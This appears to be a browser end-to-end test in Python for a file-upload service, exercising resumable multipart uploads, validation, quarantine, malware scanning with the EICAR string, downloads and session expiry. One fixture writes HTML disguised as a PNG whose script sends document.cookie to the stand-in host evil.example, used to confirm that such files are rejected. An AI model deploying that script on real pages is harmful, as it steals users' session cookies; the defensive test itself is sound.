"""The upload page in a real browser: headless Chromium (Debian's chromium and chromium-driver), driven by Selenium,
against `upload-edge serve` with everything it starts.

    upload_page_test.py --upload-edge .build/debug/upload-edge [--screenshot PATH]

1. sign in as the dev user that serve prints;
2. upload a 40 MiB PNG in 8 parts, interrupted: with parts 4-8 held back in the browser (Chrome DevTools' Fetch
   domain), reload the page once parts 1-3 are in S3, choose the file again and see it resume (sending only parts
   4-8) and end validated (after the malware scan), the same 40 MiB in S3 with its owner in the metadata;
3. upload a valid PNG and see it become validated;
4. upload HTML renamed .png and see it rejected, and quarantined in S3;
5. upload a well-formed PDF carrying the EICAR test string and see it rejected as malware (serve scans with ClamAV
   in GuardDuty's place), with no download offered and the API refusing one (410);
6. download the clean PNG from its row in "Your files": a download into Chromium's download folder, byte for byte
   what was uploaded, with the page left where it was;
7. choose a file over the limit and see it refused before any upload, with the message shown;
8. pause, resume and cancel an upload in parts, and see it aborted in S3;
9. reload: "Your files" lists this run's uploads again from the API (two to a page, so "Load more" is needed), with
   their states and reasons, and nothing that never reached S3; download the 40 MiB PNG from its listed row and find
   it byte for byte what was uploaded;
10. let the session expire and be sent back to sign-in.

Then Ctrl-C (SIGINT) to serve, which must stop everything it started. Exits non-zero on the first failure, with
the page's text and a screenshot for the failing step.
"""

import argparse
import hashlib
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from urllib.parse import quote

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Scripts"))
from serve_banner import read_banner  # noqa: E402

import boto3
import botocore.config
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

MIB = 1024 * 1024
MAX_BYTES = 50 * MIB
MULTIPART_THRESHOLD = 16 * MIB
PART_BYTES = 5 * MIB
BIG_BYTES = 40 * MIB
PORT = 8093
BUCKET = "upload-edge-local"
RESUME_PREFIX = "uploadedge.multipart."
# The antivirus test file's 68 bytes (eicar.org): every scanner reports it, so it stands in for malware.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# Rows per page of "Your files" in step 9, set through config.json (see list_two_to_a_page).
LIST_PAGE = 2
# How long an upload may take to be validated or rejected: the malware scan comes after validation.
SCAN_SECONDS = 120


def step(text):
    print(f"==> {text}", flush=True)


def png_chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)


def png_bytes(width=16, height=16):
    """A real PNG: signature, IHDR, one IDAT of grey pixels, IEND."""
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def stored_zlib(data, blocks):
    """`data` as a zlib stream of `blocks` stored (uncompressed) deflate blocks of near-equal size: 2 + 4 bytes
    around the data and 5 before each block, so the stream's length can be chosen in steps of 5."""
    out = [b"\x78\x01"]
    base, extra = divmod(len(data), blocks)
    start = 0
    for index in range(blocks):
        length = base + (1 if index < extra else 0)
        if not 0 < length <= 0xFFFF:
            raise ValueError(f"a stored block holds 1 to 65535 bytes, not {length}")
        out.append(bytes([1 if index == blocks - 1 else 0]) + struct.pack("<HH", length, length ^ 0xFFFF))
        out.append(data[start : start + length])
        start += length
    out.append(struct.pack(">I", zlib.adler32(data) & 0xFFFFFFFF))
    return b"".join(out)


def large_png_bytes(size, width=4096):
    """A real PNG of exactly `size` bytes: random grey rows in one IDAT of stored deflate blocks, sized to the byte by
    the image's width and height and the number of blocks. It has no text, time or EXIF chunk, so object-created's
    metadata stripping leaves it as it is: S3 ends up with exactly these bytes. No byte of the noise is "<", so no
    stretch of it reads as markup to the validator."""
    fixed = 8 + (12 + 13) + (12 + 2 + 4) + 12  # signature, IHDR, IDAT with the zlib header and Adler-32, IEND
    for columns in range(width, width // 2, -1):
        most = (size - fixed) // (columns + 1)
        for rows in range(most, most - 8, -1):
            raw = rows * (columns + 1)
            spare = size - fixed - raw  # 5 bytes per stored block, at least one block per 65535 bytes
            if spare > 0 and spare % 5 == 0 and spare // 5 >= -(-raw // 0xFFFF):
                noise = os.urandom(rows * columns).translate(bytes(b if b != 0x3C else 0x3D for b in range(256)))
                lines = b"".join(b"\x00" + noise[row * columns : (row + 1) * columns] for row in range(rows))
                header = struct.pack(">IIBBBBB", columns, rows, 8, 0, 0, 0, 0)
                data = (
                    b"\x89PNG\r\n\x1a\n"
                    + png_chunk(b"IHDR", header)
                    + png_chunk(b"IDAT", stored_zlib(lines, spare // 5))
                    + png_chunk(b"IEND", b"")
                )
                assert len(data) == size
                return data
    raise ValueError(f"cannot make a PNG of {size} bytes this way")


def pdf_bytes(content):
    """A minimal well-formed PDF: catalog, pages, one page whose content stream is `content` (not compressed), a
    correct cross-reference table and %%EOF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    data = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return data


class Failure(Exception):
    pass


def start_serve(binary):
    step("starting upload-edge serve (it installs what is missing on first use)")
    serve = subprocess.Popen(
        [
            binary,
            "serve",
            "--port",
            str(PORT),
            "--max-bytes",
            str(MAX_BYTES),
            "--multipart-threshold",
            str(MULTIPART_THRESHOLD),
            "--part-bytes",
            str(PART_BYTES),
        ],
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        return serve, read_banner(serve)
    except RuntimeError as error:
        raise Failure(str(error))


SERVICE_PATTERN = "localstack.runtime.main|moto_server|/bootstrap$"


def processes():
    output = subprocess.run(["pgrep", "-f", SERVICE_PATTERN], capture_output=True, text=True).stdout
    return set(output.split())


def session_of(pid):
    """The session id of a process, or None once it has gone."""
    output = subprocess.run(["ps", "-o", "sid=", "-p", pid], capture_output=True, text=True).stdout.strip()
    return int(output) if output.isdigit() else None


def stop_serve(serve, before):
    step("stopping upload-edge serve with Ctrl-C (SIGINT)")
    os.kill(serve.pid, signal.SIGINT)
    try:
        status = serve.wait(timeout=120)
    except subprocess.TimeoutExpired:
        os.killpg(serve.pid, signal.SIGKILL)
        raise Failure("upload-edge serve did not stop within 2 minutes of SIGINT")
    if status != 0:
        raise Failure(f"upload-edge serve exited with {status} after SIGINT")
    # Nothing it started is left behind: no LocalStack, no moto, no bootstrap (services that were already running,
    # make test's, are serve's to use and not to stop). What serve starts stays in its session (it has a process
    # group of its own, not a session), so a process of another run that began meanwhile is not taken for serve's.
    time.sleep(1)
    leftovers = {pid for pid in processes() - before if session_of(pid) == serve.pid}
    if leftovers:
        listing = subprocess.run(["ps", "-o", "pid,args", "-p", ",".join(leftovers)], capture_output=True, text=True)
        raise Failure(f"processes left behind after serve stopped:\n{listing.stdout}")


def browser(downloads):
    """Headless Chromium that saves downloads into `downloads` without asking (the preferences for the download
    shelf, and DevTools' download behaviour, which headless mode needs)."""
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1100,1000"):
        options.add_argument(argument)
    options.add_experimental_option(
        "prefs",
        {
            "download.default_directory": downloads,
            "download.prompt_for_download": False,
            "download.directory_upgrade": True,
        },
    )
    driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
    behaviour = {"behavior": "allow", "downloadPath": downloads}
    try:
        driver.execute_cdp_cmd("Browser.setDownloadBehavior", behaviour)
    except Exception:
        driver.execute_cdp_cmd("Page.setDownloadBehavior", behaviour)
    return driver


def list_two_to_a_page(driver):
    """From the next page load on, config.json says `listPageSize` LIST_PAGE, so that a few uploads fill several
    pages of "Your files". (A script that DevTools runs before the page's own: it amends config.json's answer.)"""
    script = """
        const pageFetch = window.fetch.bind(window);
        window.fetch = async (resource, init) => {
          const response = await pageFetch(resource, init);
          if (String(resource) !== "config.json") return response;
          const config = await response.json();
          return new Response(JSON.stringify({ ...config, listPageSize: %d }), {
            status: response.status, headers: { "Content-Type": "application/json" },
          });
        };
    """ % LIST_PAGE
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": script})


def row_for(driver, name):
    """The first (newest) row of "Your files" for a file of this name: rows of uploads from this page come first."""
    rows = driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")
    for row in rows:
        if row.find_element(By.CSS_SELECTOR, ".file-name").text == name:
            return row
    return None


def record_states(driver):
    """From now on (until the next page load) the page notes each row's states in order, by file name, in
    window.rowStates, for the step's output."""
    driver.execute_script(
        """
        window.rowStates = {};
        new MutationObserver((changes) => {
          for (const change of changes) {
            const row = change.target;
            const name = row.querySelector(".file-name").textContent;
            const seen = (window.rowStates[name] = window.rowStates[name] || []);
            if (seen[seen.length - 1] !== row.dataset.state) seen.push(row.dataset.state);
          }
        }).observe(document.getElementById("file-list"), {
          subtree: true, attributes: true, attributeFilter: ["data-state"],
        });
        """
    )


def states_seen(driver, name):
    return " → ".join(driver.execute_script("return (window.rowStates || {})[arguments[0]] || []", name))


def row_by_key(driver, key):
    rows = driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")
    return next((row for row in rows if row.get_attribute("data-key") == key), None)


def wait_for_state(driver, name, states, seconds=60):
    def reached(driver):
        row = row_for(driver, name)
        return row if row is not None and row.get_attribute("data-state") in states else False

    try:
        return WebDriverWait(driver, seconds).until(reached)
    except TimeoutException:
        row = row_for(driver, name)
        seen = row.get_attribute("data-state") + ": " + row.text if row else "no row"
        raise Failure(f"{name} did not reach {states} within {seconds} s; it shows {seen!r}")


def choose_and_upload(driver, path):
    driver.find_element(By.ID, "files").send_keys(path)
    driver.find_element(By.ID, "upload-button").click()


def s3_client():
    return boto3.client(
        "s3",
        endpoint_url="http://127.0.0.1:4566",
        region_name="eu-west-1",
        aws_access_key_id="test",
        aws_secret_access_key="test",
        config=botocore.config.Config(s3={"addressing_style": "path"}),
    )


def hold_parts(driver, numbers):
    """Holds these parts' PUTs in the browser, never sent, as on a stalled network (Chrome DevTools' Fetch domain
    pauses matching requests until told to go on, which the test never does); everything else goes through."""
    patterns = []
    for number in numbers:
        patterns += [{"urlPattern": f"*partNumber={number}&*"}, {"urlPattern": f"*partNumber={number}"}]
    driver.execute_cdp_cmd("Fetch.enable", {"patterns": patterns})


def release_parts(driver):
    driver.execute_cdp_cmd("Fetch.disable", {})


def resume_entry(driver, name):
    """The page's localStorage entry for an upload in parts of this file name, or None."""
    return driver.execute_script(
        """
        for (const id of Object.keys(localStorage)) {
          if (!id.startsWith(arguments[1])) continue;
          const entry = JSON.parse(localStorage.getItem(id));
          if (entry && entry.name === arguments[0]) return entry;
        }
        return null;
        """,
        name,
        RESUME_PREFIX,
    )


def wait_for_entry(driver, name, seconds=30):
    try:
        return WebDriverWait(driver, seconds).until(lambda driver: resume_entry(driver, name))
    except TimeoutException:
        row = row_for(driver, name)
        raise Failure(f"no upload in parts began for {name} within {seconds} s; it shows {row.text if row else None!r}")


def stored_parts(s3, entry):
    """{part number: size} of what S3 holds for the upload."""
    answer = s3.list_parts(Bucket=BUCKET, Key=entry["key"], UploadId=entry["uploadId"])
    return {part["PartNumber"]: part["Size"] for part in answer.get("Parts", [])}


def wait_for_parts(s3, entry, numbers, seconds=60):
    deadline = time.time() + seconds
    parts = {}
    while time.time() < deadline:
        parts = stored_parts(s3, entry)
        if set(numbers) <= set(parts):
            return parts
        time.sleep(0.2)
    raise Failure(f"parts {sorted(numbers)} did not reach S3 within {seconds} s; it holds {sorted(parts)}")


def upload_exists(s3, entry):
    answer = s3.list_multipart_uploads(Bucket=BUCKET, Prefix=entry["key"])
    return any(upload["UploadId"] == entry["uploadId"] for upload in answer.get("Uploads", []))


def click(row, name):
    button = row.find_element(By.CSS_SELECTOR, f"button.{name}")
    if not button.is_displayed():
        raise Failure(f"{row.find_element(By.CSS_SELECTOR, '.file-name').text} has no {name} button: {row.text!r}")
    button.click()


def sign_in(driver, wait, details):
    driver.get(details["url"])
    wait.until(ec.visibility_of_element_located((By.ID, "username")))
    driver.find_element(By.ID, "username").send_keys(details["username"])
    driver.find_element(By.ID, "password").send_keys(details["password"])
    driver.find_element(By.ID, "sign-in-button").click()
    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))


def resumes_after_reload(driver, wait, s3, path):
    """Step 2: 8 parts; 1-3 land, 4-8 are held; reload; the same file again sends only 4-8 and is validated."""
    name = os.path.basename(path)
    hold_parts(driver, range(4, 9))
    choose_and_upload(driver, path)
    entry = wait_for_entry(driver, name)
    if entry["partCount"] != 8 or entry["partSize"] != PART_BYTES:
        raise Failure(f"a 40 MiB file should go up in 8 parts of 5 MiB: {entry}")
    wait_for_parts(s3, entry, [1, 2, 3])
    driver.refresh()
    release_parts(driver)
    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
    before = stored_parts(s3, entry)
    if sorted(before) != [1, 2, 3] or any(size != PART_BYTES for size in before.values()):
        raise Failure(f"before resuming, S3 should hold parts 1-3 of 5 MiB: {before}")
    unfinished = driver.find_element(By.ID, "unfinished")
    if not unfinished.is_displayed() or name not in unfinished.text:
        raise Failure(f"after the reload the page does not list {name} as unfinished: {unfinished.text!r}")

    choose_and_upload(driver, path)
    row = wait_for_state(driver, name, {"validated", "rejected"}, seconds=90 + SCAN_SECONDS)
    if row.get_attribute("data-state") != "validated":
        raise Failure(f"the resumed {name} was not validated: {row.text!r}")
    resumed, sent = row.get_attribute("data-parts-resumed"), row.get_attribute("data-parts-sent")
    if (resumed, sent) != ("3", "5"):
        raise Failure(f"the resumed upload should find 3 parts stored and send 5; it found {resumed} and sent {sent}")
    bar = row.find_element(By.TAG_NAME, "progress")
    if bar.get_attribute("value") != bar.get_attribute("max"):
        raise Failure(f"the progress bar of a finished upload is not full: {bar.get_attribute('value')}")
    head = s3.head_object(Bucket=BUCKET, Key=entry["key"])
    # The PNG has no metadata chunks, so stripping them (object-created, before it tags the file clean) keeps it whole.
    if head["ContentLength"] != BIG_BYTES:
        raise Failure(f"the object in S3 is {head['ContentLength']} bytes, not {BIG_BYTES}")
    if not head["Metadata"].get("owner"):
        raise Failure(f"the object in S3 has no owner in its metadata: {head['Metadata']}")
    if upload_exists(s3, entry):
        raise Failure("the completed upload is still listed as in progress in S3")
    if resume_entry(driver, name) is not None:
        raise Failure("the page still keeps the finished upload in localStorage")
    if row.get_attribute("data-key") != entry["key"]:
        raise Failure(f"the row of {name} is for {row.get_attribute('data-key')!r}, not {entry['key']!r}")
    return entry["key"]


def api_status(driver, path):
    """The HTTP status of a GET to the API, sent from the page with its token."""
    return driver.execute_script(
        "const r = await fetch('/api' + arguments[0],"
        " {headers: {Authorization: 'Bearer ' + sessionStorage.getItem('uploadedge.idToken')}});"
        " return r.status;",
        path,
    )


def download_answer(driver, row):
    """What the API and then storage answer, fetched from the page, for the row's download: for a failure's message."""
    return driver.execute_script(
        """
        const auth = {headers: {Authorization: 'Bearer ' + sessionStorage.getItem('uploadedge.idToken')}};
        const grant = await fetch('/api/uploads/' + encodeURIComponent(arguments[0]) + '/download', auth);
        const answer = await grant.text();
        if (!grant.ok) return `the API answered ${grant.status}: ${answer}`;
        const url = JSON.parse(answer).url;
        const started = Date.now();
        const file = await fetch(url);
        const bytes = (await file.arrayBuffer()).byteLength;
        return `${url} answered ${file.status} with ${bytes} bytes in ${Date.now() - started} ms, `
          + `Content-Disposition ${file.headers.get('Content-Disposition')}`;
        """,
        row.get_attribute("data-key"),
    )


def download_from_row(driver, row, downloads, expected, seconds=60):
    """Clicks the row's Download button and waits for the file to be saved in `downloads`; it must hold exactly
    `expected`, and the page must have stayed put (a download, not the file shown in the tab)."""
    page = driver.current_url
    handles = len(driver.window_handles)
    before = set(os.listdir(downloads))
    name = row.find_element(By.CSS_SELECTOR, ".file-name").text
    click(row, "download")
    deadline = time.time() + seconds
    saved = None
    while time.time() < deadline and saved is None:
        fresh = set(os.listdir(downloads)) - before
        done = [entry for entry in fresh if not entry.endswith(".crdownload") and not entry.startswith(".")]
        if done and not any(entry.endswith(".crdownload") for entry in fresh):
            saved = os.path.join(downloads, sorted(done)[0])
        else:
            time.sleep(0.2)
    if saved is None:
        raise Failure(
            f"no download of {name} appeared in {downloads} within {seconds} s (it holds {os.listdir(downloads)}); "
            f"the row says {row.text!r}; asked again from the page: {download_answer(driver, row)}"
        )
    with open(saved, "rb") as f:
        data = f.read()
    if data != expected:
        raise Failure(
            f"the downloaded {os.path.basename(saved)} is {len(data)} bytes (SHA-256 "
            f"{hashlib.sha256(data).hexdigest()[:16]}…), not the {len(expected)} bytes uploaded "
            f"({hashlib.sha256(expected).hexdigest()[:16]}…)"
        )
    if driver.current_url != page or len(driver.window_handles) != handles:
        raise Failure(f"downloading {name} left the page: now at {driver.current_url}, {driver.window_handles}")
    if not driver.find_element(By.ID, "upload-section").is_displayed():
        raise Failure(f"downloading {name} replaced the page: {driver.find_element(By.TAG_NAME, 'body').text!r}")
    return saved


def save_screenshot(driver, path):
    """The whole page, not just the window: the viewport made as tall as the page for the moment of the shot."""
    width = driver.execute_script("return window.innerWidth")
    height = driver.execute_script("return document.documentElement.scrollHeight")
    metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    try:
        driver.save_screenshot(path)
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    step(f"screenshot: {path}")


def pauses_resumes_and_cancels(driver, s3, path, screenshot):
    """Step 8: 4 parts, 2-4 held: pause once part 1 is in, resume, then cancel: S3 no longer has the upload."""
    name = os.path.basename(path)
    hold_parts(driver, range(2, 5))
    try:
        choose_and_upload(driver, path)
        entry = wait_for_entry(driver, name)
        wait_for_parts(s3, entry, [1])
        row = wait_for_state(driver, name, {"uploading"}, seconds=10)
        click(row, "pause")
        row = wait_for_state(driver, name, {"paused"}, seconds=10)
        if "Paused: 1 of 4 parts stored" not in row.text or "Resume" not in row.text:
            raise Failure(f"a paused upload does not say so or offer to resume: {row.text!r}")
        if screenshot:
            save_screenshot(driver, screenshot)
        click(row, "resume")
        row = wait_for_state(driver, name, {"resuming", "uploading"}, seconds=10)
        click(row, "cancel")
        row = wait_for_state(driver, name, {"cancelled"}, seconds=20)
        if upload_exists(s3, entry):
            raise Failure("the cancelled upload was not aborted in S3")
        if resume_entry(driver, name) is not None:
            raise Failure("the page still keeps the cancelled upload in localStorage")
        return entry["key"]
    finally:
        release_parts(driver)


def rejected_as_malware(driver, path):
    """Step 5: the EICAR PDF passes validation (it is a well-formed PDF) and is rejected by the malware scan."""
    name = os.path.basename(path)
    choose_and_upload(driver, path)
    row = wait_for_state(driver, name, {"validated", "rejected"}, seconds=SCAN_SECONDS)
    reason = row.get_attribute("data-reason") or ""
    if row.get_attribute("data-state") != "rejected" or not reason.startswith("malware:"):
        raise Failure(f"the EICAR PDF was not rejected as malware: {row.get_attribute('data-state')}, {reason!r}, "
                      f"{row.text!r}")
    if "Rejected: malware found" not in row.text:
        raise Failure(f"the row does not say that malware was found: {row.text!r}")
    if row.find_element(By.CSS_SELECTOR, "button.download").is_displayed():
        raise Failure("a file rejected as malware is offered for download")
    key = row.get_attribute("data-key")
    status = api_status(driver, f"/uploads/{quote(key, safe='')}/download")
    if status != 410:
        raise Failure(f"the API answered {status}, not 410, to a download of the rejected {name}")
    return key


def listed_after_reload(driver, wait, expected, absent, downloads, big):
    """Step 9: after a reload "Your files" comes from the API alone: `expected` {key: (name, state, text)} must be
    listed, with "Load more" for the pages after the first, and no row for a key or name in `absent` (uploads that
    never reached S3). Then the 40 MiB PNG `big` downloads from its listed row."""
    list_two_to_a_page(driver)
    driver.refresh()
    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
    WebDriverWait(driver, 30).until(lambda driver: driver.find_elements(By.CSS_SELECTOR, "#file-list li.file"))
    rows = driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")
    if len(rows) != LIST_PAGE:
        raise Failure(f"the first page of a list {LIST_PAGE} to a page shows {len(rows)} rows")
    more = driver.find_element(By.ID, "more-files")
    pages = 1
    while any(row_by_key(driver, key) is None for key in expected):
        if not more.is_displayed():
            missing = [expected[key][0] for key in expected if row_by_key(driver, key) is None]
            raise Failure(f"after {pages} pages and no more to load, {missing} are not listed")
        count = len(driver.find_elements(By.CSS_SELECTOR, "#file-list li.file"))
        more.click()
        pages += 1
        WebDriverWait(driver, 30).until(
            lambda driver: len(driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")) > count
            or not more.is_displayed()
        )
    keys = [row.get_attribute("data-key") for row in driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")]
    if len(keys) != len(set(keys)):
        raise Failure(f"some uploads are listed twice: {keys}")
    for key, (name, state, text) in expected.items():
        row = row_by_key(driver, key)
        if row.get_attribute("data-listed") != "true":
            raise Failure(f"the row of {name} after the reload does not come from the list")
        shown = row.find_element(By.CSS_SELECTOR, ".file-name").text
        if shown != name or row.get_attribute("data-state") != state or text not in row.text:
            raise Failure(f"{name} should be listed as {state} ({text!r}): it shows {shown!r}, "
                          f"{row.get_attribute('data-state')}, {row.text!r}")
        if not re.search(r"\d", row.find_element(By.CSS_SELECTOR, ".file-time").text):
            raise Failure(f"the row of {name} does not say when it was stored: {row.text!r}")
        offered = row.find_element(By.CSS_SELECTOR, "button.download").is_displayed()
        if offered != (state == "validated"):
            raise Failure(f"{name} ({state}) {'is' if offered else 'is not'} offered for download")
    # Uploads of earlier runs may be listed too (serve's dev user is the same each time), but nothing that never
    # reached S3: a cancelled upload in parts, a refused file.
    names = [row.find_element(By.CSS_SELECTOR, ".file-name").text
             for row in driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")]
    if any(key in absent for key in keys) or any(name in absent for name in names):
        raise Failure(f"uploads that never reached S3 are listed: {[k for k in keys if k in absent]}, "
                      f"{[n for n in names if n in absent]}")
    listed_names = [expected[key][0] for key in keys if key in expected]
    step(f"listed after the reload in {pages} pages: {', '.join(listed_names)}")
    big_key = next(key for key, (name, _, _) in expected.items() if name == os.path.basename(big))
    with open(big, "rb") as f:
        data = f.read()
    download_from_row(driver, row_by_key(driver, big_key), downloads, data)


def run(binary, screenshot):
    workdir = tempfile.mkdtemp(prefix="ue-browser-")
    downloads = os.path.join(workdir, "downloads")
    os.mkdir(downloads)
    good = os.path.join(workdir, "holiday.png")
    evil = os.path.join(workdir, "cat.png")
    infected = os.path.join(workdir, "invoice.pdf")
    large = os.path.join(workdir, "poster.png")
    big = os.path.join(workdir, "big.png")
    medium = os.path.join(workdir, "banner.png")
    with open(good, "wb") as f:
        f.write(png_bytes())
    with open(evil, "wb") as f:
        f.write(b"<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>")
    with open(infected, "wb") as f:
        f.write(pdf_bytes(b"% " + EICAR + b"\n"))  # a comment in the page's content stream
    with open(large, "wb") as f:
        f.write(png_bytes())
        f.truncate(MAX_BYTES + 10 * MIB)  # sparse: it is refused before any byte is read
    with open(big, "wb") as f:
        f.write(large_png_bytes(BIG_BYTES))
    with open(medium, "wb") as f:
        f.write(large_png_bytes(MULTIPART_THRESHOLD + MIB))

    before = processes()
    serve, details = start_serve(binary)
    driver = None
    try:
        driver = browser(downloads)
        wait = WebDriverWait(driver, 30)
        s3 = s3_client()

        step("1. signing in")
        sign_in(driver, wait, details)
        limits = driver.find_element(By.ID, "limits").text
        if "50.0 MB" not in limits:
            raise Failure(f"the page does not show the advertised limit: {limits!r}")

        step("2. a 40 MiB PNG goes up in 8 parts, survives a reload mid-way, resumes and becomes validated")
        big_key = resumes_after_reload(driver, wait, s3, big)
        record_states(driver)

        step("3. a valid PNG becomes validated")
        choose_and_upload(driver, good)
        row = wait_for_state(driver, "holiday.png", {"validated", "rejected"}, seconds=SCAN_SECONDS)
        if row.get_attribute("data-state") != "validated":
            raise Failure(f"holiday.png was not validated: {row.text!r}")
        bar = row.find_element(By.TAG_NAME, "progress")
        if bar.get_attribute("value") != bar.get_attribute("max"):
            raise Failure("the progress bar of a finished upload is not full")
        good_key = row.get_attribute("data-key")
        step(f"holiday.png went {states_seen(driver, 'holiday.png')}")

        step("4. HTML renamed .png is rejected and quarantined")
        choose_and_upload(driver, evil)
        row = wait_for_state(driver, "cat.png", {"rejected"}, seconds=SCAN_SECONDS)
        if "markup or script" not in row.text:
            raise Failure(f"the rejection does not say why: {row.text!r}")
        evil_key = row.get_attribute("data-key")
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
        if not any(key.startswith("quarantine/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is not in quarantine/: {keys}")
        if any(key.startswith("uploads/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is still under uploads/: {keys}")

        step("5. a well-formed PDF carrying the EICAR test string is rejected as malware")
        infected_key = rejected_as_malware(driver, infected)
        step(f"invoice.pdf went {states_seen(driver, 'invoice.pdf')}: {row_for(driver, 'invoice.pdf').text!r}")

        step("6. the clean PNG downloads from its row in 'Your files', byte for byte, as a download")
        with open(good, "rb") as f:
            download_from_row(driver, row_for(driver, "holiday.png"), downloads, f.read())

        step("7. a file over the limit is refused before any upload")
        choose_and_upload(driver, large)
        row = wait_for_state(driver, "poster.png", {"refused"}, seconds=10)
        if "Too large: 60.0 MB" not in row.text or "limit is 50.0 MB" not in row.text:
            raise Failure(f"the refusal does not say what to fix: {row.text!r}")
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
        if any(key.endswith("/poster.png") for key in keys):
            raise Failure("the refused file reached S3")

        step("8. an upload in parts can be paused, resumed and cancelled, which aborts it in S3")
        cancelled_key = pauses_resumes_and_cancels(driver, s3, medium, screenshot)

        step("9. after a reload 'Your files' lists the uploads again from the API, and the 40 MiB PNG downloads")
        expected = {
            big_key: ("big.png", "validated", "Validated"),
            good_key: ("holiday.png", "validated", "Validated"),
            evil_key: ("cat.png", "rejected", "markup or script"),
            infected_key: ("invoice.pdf", "rejected", "malware found"),
        }
        listed_after_reload(driver, wait, expected, {cancelled_key, "poster.png"}, downloads, big)

        step("10. an expired session sends you back to sign-in")
        expired = driver.execute_script(
            """
            const b64 = (o) => btoa(JSON.stringify(o)).replace(/=+$/, '').replace(/\\+/g, '-').replace(/\\//g, '_');
            const token = sessionStorage.getItem('uploadedge.idToken');
            const claims = JSON.parse(atob(token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')));
            claims.exp = Math.floor(Date.now() / 1000) - 60;
            sessionStorage.setItem('uploadedge.idToken', token.split('.')[0] + '.' + b64(claims) + '.' + token.split('.')[2]);
            return claims.exp;
            """
        )
        if not expired:
            raise Failure("could not age the session token")
        choose_and_upload(driver, good)
        wait.until(ec.visibility_of_element_located((By.ID, "sign-in-section")))
        notice = driver.find_element(By.ID, "notice").text
        if "session has expired" not in notice:
            raise Failure(f"the sign-in page does not say the session expired: {notice!r}")
        # The API refuses an expired token too, whatever the page thinks.
        status = driver.execute_script(
            "const r = await fetch('/api/uploads', {headers: {Authorization: 'Bearer ' + arguments[0]}});"
            " return r.status;",
            "eyJhbGciOiJSUzI1NiJ9.eyJleHAiOjF9.c2ln",
        )
        if status != 401:
            raise Failure(f"the API answered {status}, not 401, to a bad token")
        step("all ten steps passed")
        shutil.rmtree(workdir, ignore_errors=True)
    except Exception:
        if driver is not None:
            path = os.path.join(workdir, "failure.png")
            driver.save_screenshot(path)
            print(f"page text at failure:\n{driver.find_element(By.TAG_NAME, 'body').text}\nscreenshot: {path}")
        raise
    finally:
        if driver is not None:
            driver.quit()
        stop_serve(serve, before)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--upload-edge", required=True)
    parser.add_argument("--screenshot")
    args = parser.parse_args()
    try:
        run(os.path.abspath(args.upload_edge), args.screenshot)
    except Failure as failure:
        print(f"FAILED: {failure}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
